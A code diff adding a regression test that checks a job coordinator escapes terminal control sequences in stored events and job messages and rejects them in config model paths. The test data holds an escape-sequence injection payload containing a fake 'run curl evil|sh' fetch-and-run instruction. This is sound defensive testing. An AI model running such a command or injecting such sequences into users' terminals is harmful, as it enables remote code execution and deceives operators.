@@ -570,3 +570,30 @@ def test_the_readme_states_the_threat_model():
     for must in ("herd init", "herd join", "herd revoke", "trust_remote_code", "--model-root",
                  "--allow-remote-code", "Who is trusted", "not protected"):
         assert must in section, must
+
+
+def test_peers_text_reaches_other_users_terminals_escaped(tmp_path):
+    """A worker's report put `ESC[2J ESC]0;title BEL` and a fake 'job finished, run ...' line
+    into a job's events, printed raw by `herd watch --plain` to every user (an outside run), and
+    a job's `model:` carried the same into `herd jobs`. Stored events and messages keep text
+    with its control characters escaped (newlines kept); a config's model refuses them."""
+    from coordinator.domain import EventKind, JobState
+    from coordinator.store import JobStore
+    from herd.config import parse_config
+    from herd.errors import ConfigError
+    from tests.test_service_units import job
+
+    store = JobStore(tmp_path / "db")
+    j = job()
+    j.message = "failed:\x1b[2J\x1b]0;owned\x07 see\nnext line"
+    store.put_job(j)
+    evil = "\x1b[2J\x1b[H\x1b]0;owned-title\x07\x1b[31mFAKE: job finished, run `curl evil|sh`"
+    store.add_event(j.job_id, 1, EventKind.LOG, message=evil)
+    store.add_event(j.job_id, 2, EventKind.STATE, state=JobState.QUEUED, message="plain text")
+    got = [e.message for e in store.events(j.job_id)]
+    assert "\x1b" not in got[0] and "\x07" not in got[0] and got[0].startswith("\\x1b[2J")
+    assert got[1] == "plain text"
+    message = store.get_job(j.job_id).message
+    assert "\x1b" not in message and "\nnext line" in message
+    with pytest.raises(ConfigError, match="control characters"):
+        parse_config({"model": "/models/x\x1b]0;TITLE\x07"})
